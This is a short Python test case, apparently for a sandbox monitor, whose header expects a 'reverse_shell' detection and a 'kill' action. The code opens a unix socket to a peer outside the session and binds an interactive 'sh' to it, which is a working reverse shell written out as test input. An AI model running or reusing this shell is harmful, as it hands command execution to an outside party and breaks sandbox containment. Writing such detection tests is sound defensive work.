# expect: reverse_shell
# action: kill
# outside: unix
# srt-settings: {"network": {"allowAllUnixSockets": true}}
# about: a shell on a unix socket whose peer is outside the session
import os
import socket
import subprocess

s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["AW_OUTSIDE_UNIX"])
subprocess.run(["sh"], stdin=s, stdout=s, stderr=s, timeout=30)
